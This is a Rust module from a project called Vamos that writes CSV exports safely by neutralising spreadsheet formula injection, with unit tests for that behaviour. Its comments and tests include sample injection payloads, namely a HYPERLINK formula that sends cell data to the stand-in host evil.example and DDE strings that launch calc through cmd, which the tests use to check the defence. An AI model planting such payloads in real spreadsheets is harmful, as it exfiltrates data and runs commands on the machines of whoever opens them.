//! CSV that a spreadsheet cannot turn into a formula: the one writer of every CSV Vamos hands
//! to a person (referral lists, the audit export, rejection and unmatched reports, Logros).
//!
//! A cell such as `=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")` — a name typed by
//! anyone who reaches a form, a rejected value, an audit `purpose` — is run as a formula by
//! Excel or LibreOffice when the file is opened (CSV or formula injection). Following OWASP,
//! every **text** cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
//! written with an apostrophe in front, which spreadsheets show as text; cells that are numbers
//! (`-5`, `+3.5`, `1e3`) stay numbers. A tidy test (`crates/cli/tests/tidy.rs`) keeps every
//! other module from building a `csv::Writer` of its own, so a new export cannot forget.
//!
//! Generic over `std::io::Write`: this crate opens no files; callers hand it the sink.

use std::borrow::Cow;
use std::io::Write;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP).
const DANGEROUS_FIRST: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `s` is a plain decimal number (optional sign, digits with an optional fraction,
/// optional exponent): such a cell is data, not a formula, even when it starts with `-` or `+`.
pub fn is_number(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let digits = |i: &mut usize| {
        let start = *i;
        while b.get(*i).is_some_and(u8::is_ascii_digit) {
            *i += 1;
        }
        *i - start
    };
    let mut mantissa = digits(&mut i);
    if b.get(i) == Some(&b'.') {
        i += 1;
        mantissa += digits(&mut i);
    }
    if mantissa == 0 {
        return false;
    }
    if matches!(b.get(i), Some(b'e' | b'E')) {
        i += 1;
        if matches!(b.get(i), Some(b'+' | b'-')) {
            i += 1;
        }
        if digits(&mut i) == 0 {
            return false;
        }
    }
    i == b.len()
}

/// The cell as it must be written: text starting with a dangerous character gets an
/// apostrophe in front; numbers and every other cell are returned unchanged (not copied).
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if DANGEROUS_FIRST.contains(&c) && !is_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// A CSV writer whose every cell goes through [`neutralise`]; the only way Vamos writes an
/// export (RFC 4180 quoting, `,` separator, `\n` line ends as the `csv` crate writes them).
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    /// Writes to `w`, quoting cells only where needed.
    pub fn from_writer(w: W) -> Self {
        CsvWriter {
            inner: csv::Writer::from_writer(w),
        }
    }

    /// Writes to `w` with every cell quoted (the audit export's layout).
    pub fn quoting_every_cell(w: W) -> Self {
        CsvWriter {
            inner: csv::WriterBuilder::new()
                .quote_style(csv::QuoteStyle::Always)
                .from_writer(w),
        }
    }

    /// Writes one record, each cell neutralised.
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for cell in record {
            self.inner
                .write_field(neutralise(cell.as_ref()).as_bytes())?;
        }
        self.inner.write_record(None::<&[u8]>)
    }

    /// Flushes what is buffered to the sink.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and hands back the sink.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")"#;

    #[test]
    fn a_cell_starting_with_each_dangerous_character_gets_an_apostrophe() {
        for cell in [
            HYPERLINK,
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2",
            "=1+2",
            "-",
            "-abc",
            "+",
            "@",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn numbers_stay_numbers() {
        for cell in ["0", "42", "3.14", "+5", "+3.5", "1e3", "2.5E-4", ".5"] {
            assert!(
                matches!(neutralise(cell), Cow::Borrowed(c) if c == cell),
                "{cell}"
            );
        }
    }

    #[test]
    fn negative_numbers_stay_numbers() {
        for cell in ["-5", "-0.25", "-1e-3", "-25.2816"] {
            assert!(
                matches!(neutralise(cell), Cow::Borrowed(c) if c == cell),
                "{cell}"
            );
        }
    }

    #[test]
    fn text_that_only_looks_numeric_is_still_text() {
        for cell in [
            "-5x", "-1-1", "+1+1", "-.", "-e5", "-5e", "-inf", "-NaN", "- 5",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn the_empty_cell_and_ordinary_text_are_unchanged() {
        for cell in ["", "María José", "2024-05-01", "a=b", "1116", " =1+2"] {
            assert!(
                matches!(neutralise(cell), Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
        }
    }

    #[test]
    fn the_writer_neutralises_every_cell_of_every_record() {
        let mut w = CsvWriter::from_writer(Vec::new());
        w.write_record(["nombre", "valor"]).unwrap();
        w.write_record([HYPERLINK, "-5"]).unwrap();
        let out = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(
            out,
            "nombre,valor\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Ver ficha\"\")\",-5\n"
        );
    }

    #[test]
    fn the_quoting_writer_quotes_every_cell_and_neutralises_it() {
        let mut w = CsvWriter::quoting_every_cell(Vec::new());
        w.write_record(["1", "@x"]).unwrap();
        let out = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(out, "\"1\",\"'@x\"\n");
    }
}
